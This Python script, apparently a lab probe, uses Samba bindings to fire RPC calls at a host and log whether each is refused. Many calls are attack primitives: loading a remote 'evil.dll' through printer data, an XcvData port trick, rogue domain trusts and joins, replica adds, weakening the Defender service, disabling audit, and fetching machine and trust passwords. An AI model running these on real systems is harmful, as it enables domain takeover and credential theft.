"""Calls by Samba's own Python bindings: bindings.py WHAT HOST SMBCONF [USER]."""
import sys

from samba.credentials import Credentials
from samba.dcerpc import dfs, drsuapi, lsa, misc, netlogon, security, spoolss, srvsvc, svcctl, wkssvc
from samba.param import LoadParm
from samba.samba3 import libsmb_samba_internal as libsmb
from samba.samba3 import param as s3param

what, host, conf = sys.argv[1:4]
lp = LoadParm()
lp.load(conf)
credentials = Credentials()
credentials.guess(lp)
credentials.parse_string((sys.argv[4] if len(sys.argv) > 4 else 'root') + '%Passw0rd!')


def tried(name, call, *arguments):
    try:
        answer = call(*arguments)
        print(name, answer)
        return answer
    except Exception as refusal:
        print(name, refusal)
        return None


def processor():
    rpc = spoolss.spoolss('ncacn_np:%s' % host, lp, credentials)
    tried('processor', rpc.AddPrintProcessor, '\\\\' + host, 'Windows x64', 'proc.dll', 'reports')


def service_rights():
    rpc = svcctl.svcctl('ncacn_np:%s' % host, lp, credentials)
    manager = rpc.OpenSCManagerW(host, None, 0xf003f)
    service = rpc.OpenServiceW(manager, 'Sense', 0xf01ff)
    buffer, needed = tried('query', rpc.QueryServiceObjectSecurity, service, 4, 4096)
    tried('set', rpc.SetServiceObjectSecurity, service, 4, buffer[:needed])


def workstation():
    credentials.set_workstation('kT4xPq7LmZ2bVn9R')
    s3 = s3param.get_context()
    s3.load(conf)
    connection = tried('logon', libsmb.Conn, host, 'share', s3, credentials)
    tried('list', connection.list, '')


def pipe():
    s3 = s3param.get_context()
    s3.load(conf)
    connection = libsmb.Conn(host, 'IPC$', s3, credentials)
    for name in sys.argv[5:]:
        tried(name, connection.create, name)


def partner():
    rpc = drsuapi.drsuapi('ncacn_ip_tcp:%s[seal]' % host, lp, credentials)
    info = drsuapi.DsBindInfoCtr()
    info.length = 28
    info.info = drsuapi.DsBindInfo28()
    _, handle = rpc.DsBind(misc.GUID(drsuapi.DRSUAPI_DS_BIND_GUID), info)
    request = drsuapi.DsReplicaAddRequest1()
    request.naming_context = drsuapi.DsReplicaObjectIdentifier()
    request.naming_context.dn = 'DC=lab,DC=local'
    request.source_dsa_address = 'client.lab.local'
    tried('add', rpc.DsReplicaAdd, handle, 1, request)


def each(rpc, **calls):
    for name, arguments in calls.items():
        tried(name, getattr(rpc, name), *arguments)


def machine():
    rpc = wkssvc.wkssvc('ncacn_np:%s' % host, lp, credentials)
    used = wkssvc.NetrUseInfo1()
    used.local, used.remote = 'Z:', '\\\\10.1.0.30\\C$'
    uses = wkssvc.NetrUseEnumInfo()
    uses.level, uses.ctr = 1, wkssvc.NetrUseEnumCtr1()
    each(rpc, NetrUseAdd=(host, 1, used, 0), NetrUseEnum=(host, uses, 0xffffffff, 0),
         NetrWorkstationStatisticsGet=(host, 'LanmanWorkstation', 0, 0), NetrGetJoinInformation=(host, ''),
         NetrJoinDomain2=(host, 'EVIL.LOCAL', None, 'EVIL\\joiner', None, 3),
         NetrUnjoinDomain2=(host, 'LAB\\Administrator', None, 0),
         NetrRenameMachineInDomain2=(host, 'RENAMED', 'LAB\\Administrator', None, 0),
         NetrEnumerateComputerNames=(host, wkssvc.NetAllComputerNames, 0))


def server():
    rpc = srvsvc.srvsvc('ncacn_np:%s' % host, lp, credentials)
    said = srvsvc.NetSrvInfo1005()
    said.comment = 'the file server'
    disks = srvsvc.NetDiskInfo()
    each(rpc, NetSrvSetInfo=(host, 1005, said, 0), NetDiskEnum=(host, 0, disks, 0xffffffff, 0),
         NetServerStatisticsGet=(host, 'LanmanServer', 0, 0))
    owner = security.SECINFO_OWNER | security.SECINFO_DACL
    buffer = tried('NetGetFileSecurity', rpc.NetGetFileSecurity, host, 'share', 'note.txt', owner)
    tried('NetSetFileSecurity', rpc.NetSetFileSecurity, host, 'share', 'note.txt', security.SECINFO_DACL, buffer or security.sec_desc_buf())


def named(text):
    name = lsa.String()
    name.string = text
    return name


def policy():
    rpc = lsa.lsarpc('ncacn_np:%s' % host, lp, credentials)
    policy = rpc.OpenPolicy2('\\\\' + host, lsa.ObjectAttribute(), security.SEC_FLAG_MAXIMUM_ALLOWED)
    debug = tried('LookupPrivValue', rpc.LookupPrivValue, policy, named('SeDebugPrivilege'))
    if debug is not None:
        tried('LookupPrivName', rpc.LookupPrivName, policy, debug)
    tried('LookupPrivDisplayName', rpc.LookupPrivDisplayName, policy, named('SeBackupPrivilege'), 0x409, 0x409)
    audited = lsa.AuditEventsInfo()
    audited.auditing_mode, audited.settings, audited.count = 0, [0] * 9, 9
    for name in 'SetInfoPolicy', 'SetInfoPolicy2':
        tried(name, getattr(rpc, name), policy, lsa.LSA_POLICY_INFO_AUDIT_EVENTS, audited)
    account = tried('OpenAccount', rpc.OpenAccount, policy, security.dom_sid('S-1-5-32-544'), security.SEC_FLAG_MAXIMUM_ALLOWED)
    if account is not None and debug is not None:
        held = lsa.LUIDAttribute()
        held.luid = debug
        rights = lsa.PrivilegeSet()
        rights.count, rights.set = 1, [held]
        tried('AddPrivilegesToAccount', rpc.AddPrivilegesToAccount, account, rights)
        tried('RemovePrivilegesFromAccount', rpc.RemovePrivilegesFromAccount, account, 0, rights)


def trust():
    rpc = lsa.lsarpc('ncacn_np:%s' % host, lp, credentials)
    policy = rpc.OpenPolicy2('\\\\' + host, lsa.ObjectAttribute(), security.SEC_FLAG_MAXIMUM_ALLOWED)
    evil = security.dom_sid('S-1-5-21-1111111111-2222222222-3333333333')
    info = lsa.TrustDomainInfoInfoEx()
    info.domain_name.string, info.netbios_name.string, info.sid = 'evil.local', 'EVIL', evil
    info.trust_direction, info.trust_type = lsa.LSA_TRUST_DIRECTION_OUTBOUND, lsa.LSA_TRUST_TYPE_UPLEVEL
    secrets = lsa.TrustDomainInfoAuthInfoInternal()
    secrets.auth_blob.data, secrets.auth_blob.size = [0x41] * 64, 64
    tried('CreateTrustedDomainEx2', rpc.CreateTrustedDomainEx2, policy, info, secrets, security.SEC_FLAG_MAXIMUM_ALLOWED)
    wide = security.SEC_FLAG_MAXIMUM_ALLOWED
    by_sid = tried('OpenTrustedDomain', rpc.OpenTrustedDomain, policy, evil, wide)
    by_name = tried('OpenTrustedDomainByName', rpc.OpenTrustedDomainByName, policy, named('evil.local'), wide)
    for handle in by_sid, by_name:
        if handle is not None:
            tried('QueryTrustedDomainInfo', rpc.QueryTrustedDomainInfo, handle, lsa.LSA_TRUSTED_DOMAIN_INFO_INFO_EX)
    each(rpc, QueryTrustedDomainInfoBySid=(policy, evil, lsa.LSA_TRUSTED_DOMAIN_INFO_INFO_EX),
         QueryTrustedDomainInfoByName=(policy, named('evil.local'), lsa.LSA_TRUSTED_DOMAIN_INFO_INFO_EX),
         lsaRQueryForestTrustInformation=(policy, named('evil.local'), lsa.LSA_FOREST_TRUST_DOMAIN_INFO))


def channel():
    rpc = netlogon.netlogon('ncacn_np:%s' % host, lp, credentials)
    query, find_user, level = 6, 8, 2
    machine = ('\\\\' + host, 'DC1$', misc.SEC_CHAN_BDC, 'CLIENT', netlogon.netr_Authenticator())
    each(rpc, netr_LogonControl=('\\\\' + host, 1, 1), netr_LogonControl2=('\\\\' + host, query, level, 'LAB'),
         netr_LogonControl2Ex=('\\\\' + host, find_user, 4, 'anna'), netr_ServerPasswordGet=machine,
         netr_NetrEnumerateTrustedDomainsEx=('\\\\' + host,), netr_ServerTrustPasswordsGet=machine)


def links():
    rpc = dfs.netdfs('ncacn_np:%s' % host, lp, credentials)
    entry = '\\\\%s\\dfs\\tools' % host
    info = dfs.EnumStruct()
    info.level, info.e = 1, dfs.EnumArray1()
    each(rpc, Add=(entry, '10.1.0.30', 'share', 'tools', 0), GetInfo=(entry, None, None, 1), Enum=(1, 0xffffffff, info, 0),
         Remove=(entry, '10.1.0.30', 'share'))


def printer():
    rpc = spoolss.spoolss('ncacn_np:%s' % host, lp, credentials)
    server, environment, none = '\\\\' + host, 'Windows x64', (None, 0)
    opened = rpc.OpenPrinter(server + '\\office', None, spoolss.DevmodeContainer(), 0x000f000c)
    each(rpc, GetPrinter=(opened, 2, *none), GetPrinterDriver2=(opened, environment, 3, *none, 3, 0),
         GetPrinterDriverDirectory=(server, environment, 1, *none), EnumPorts=(server, 1, *none), EnumMonitors=(server, 1, *none))
    driver = '\\\\10.1.0.66\\tools\\evil.dll\0'.encode('utf-16-le')
    each(rpc, SetPrinterData=(opened, 'Module', 1, list(driver)), SetPrinterDataEx=(opened, 'CopyFiles\\Payload', 'Module', 1, list(driver)))
    document, printed = spoolss.DocumentInfo1(), spoolss.DocumentInfoCtr()
    document.document_name, document.output_file, document.datatype = 'report', 'C:\\Windows\\Temp\\report.prn', 'RAW'
    printed.level, printed.info = 1, document
    each(rpc, StartDocPrinter=(opened, printed), WritePrinter=(opened, b'hello', 5), EndDocPrinter=(opened,))
    moved, changed = spoolss.SetPrinterInfo2(), spoolss.SetPrinterInfoCtr()
    moved.printername, moved.portname, moved.drivername, moved.attributes = 'office', 'Samba Printer Port', 'Office', 0x40
    changed.level, changed.info = 2, moved
    tried('SetPrinter', rpc.SetPrinter, opened, changed, spoolss.DevmodeContainer(), security.sec_desc_buf(), 0)
    tried('AddPerMachineConnection', rpc.AddPerMachineConnection, server, server + '\\office', '\\\\10.1.0.66', 'LanMan Print Services')
    monitor = rpc.OpenPrinter(server + '\\,XcvMonitor Local Port', None, spoolss.DevmodeContainer(), 1)
    port = 'C:\\Windows\\System32\\ualapi.dll\0'.encode('utf-16-le')
    tried('XcvData', rpc.XcvData, monitor, 'AddPort', port, len(port), 16, 0)


globals()[what]()
